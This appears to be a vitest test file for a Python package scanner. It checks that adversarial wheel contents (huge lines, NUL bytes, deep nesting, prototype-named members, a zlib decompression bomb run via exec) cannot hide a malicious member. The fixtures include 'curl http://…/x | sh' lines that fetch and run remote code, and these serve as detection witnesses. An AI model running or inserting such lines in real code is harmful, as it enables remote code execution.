import { deflateSync } from "node:zlib";
import { afterAll, describe, expect, it } from "vitest";
import type { Analysis } from "../../main/model/analysis/analysis.ts";
import { createScanPool } from "../../main/scan/scan-pool.ts";
import { buildZip } from "../support/zip-builder.ts";

/** Content written to break a reader, beside one member that must be read all the same. */
const pool = createScanPool({ jobs: 1 });
afterAll(() => pool.close());

const WITNESS = "import os\nos.system('curl http://192.0.2.7/x | sh')\n";

async function scan(path: string, content: string | Uint8Array): Promise<Analysis> {
	const bytes = buildZip([
		{ name: path, content },
		{ name: "witness/__init__.py", content: WITNESS },
	]);
	const scanned = await pool.scan({ kind: "bytes", filename: "pond-1.0-py3-none-any.whl", bytes, origin: "upload" });
	await scanned.close();
	expect(scanned.analysis.findings.map((finding) => finding.path)).toContain("witness/__init__.py");
	return scanned.analysis;
}

function saidOf(analysis: Analysis, path: string): string {
	return analysis.coverage.skipped
		.filter((line) => line.path === path)
		.map((line) => line.reason)
		.join("; ");
}

describe("hostile content", () => {
	it("a single line of 10 MB", async () => {
		const line = `data = [${"1,".repeat(5_000_000)}]\nimport os\nos.system('curl http://192.0.2.8/x | sh')\n`;
		const analysis = await scan("pond/long.py", line);
		expect(saidOf(analysis, "pond/long.py")).not.toBe("");
		// Size must not be a way to hide (design.md section 5).
		expect(analysis.findings.some((finding) => finding.path === "pond/long.py")).toBe(true);
	}, 120_000);

	it("one statement a hundred and fifty thousand times", async () => {
		const analysis = await scan("pond/flood.py", `import os\n${"os.system(x)\n".repeat(150_000)}`);
		const found = analysis.findings.filter((finding) => finding.path === "pond/flood.py");
		expect(found.length).toBeGreaterThan(1_000);
		expect(found.length).toBeLessThan(10_000);
		expect(saidOf(analysis, "pond/flood.py")).toMatch(
			/more findings of process-at-import like those listed are only counted/,
		);
	}, 120_000);

	it("NUL bytes between statements", async () => {
		const analysis = await scan("pond/nul.py", "import os\n\0\0os.system('curl http://192.0.2.8/x | sh')\n");
		expect(analysis.findings.some((finding) => finding.path === "pond/nul.py")).toBe(true);
	});

	it("bytes that are no UTF-8", async () => {
		const bytes = Buffer.concat([Buffer.from("# caf\xe9 \xff\xfe\xc3(\n", "latin1"), Buffer.from(WITNESS)]);
		const analysis = await scan("pond/bytes.py", bytes);
		expect(analysis.findings.some((finding) => finding.path === "pond/bytes.py")).toBe(true);
	});

	it("members named like parts of objects", async () => {
		for (const name of ["__proto__/__init__.py", "constructor.py", "__proto__.py", "hasOwnProperty/toString.py"]) {
			const analysis = await scan(name, WITNESS);
			expect(analysis.findings.some((finding) => finding.path === name)).toBe(true);
			expect(Object.getPrototypeOf({})).toBe(Object.prototype);
		}
	});

	it("an empty file", async () => {
		const analysis = await scan("pond/empty.py", "");
		expect(analysis.coverage.scanned).toBe(2);
	});

	it("nesting deeper than any stack", async () => {
		for (const deep of [
			`x = ${"(".repeat(50_000)}1${")".repeat(50_000)}`,
			`x = ${"-".repeat(50_000)}1`,
			`x = a${".b".repeat(50_000)}`,
		]) {
			const analysis = await scan("pond/deep.py", `${deep}\n${WITNESS}`);
			expect(analysis.findings.some((finding) => finding.path === "pond/deep.py")).toBe(true);
		}
	}, 120_000);

	it("a bomb in a literal", async () => {
		const bomb = deflateSync(Buffer.alloc(100_000_000)).toString("base64");
		const analysis = await scan(
			"pond/bomb.py",
			`import base64, zlib\nexec(zlib.decompress(base64.b64decode("${bomb}")))\n`,
		);
		expect(analysis.layers.every((layer) => layer.size <= 64 * 1024 * 1024)).toBe(true);
		expect(analysis.findings.some((finding) => finding.path === "pond/bomb.py")).toBe(true);
	}, 120_000);
});
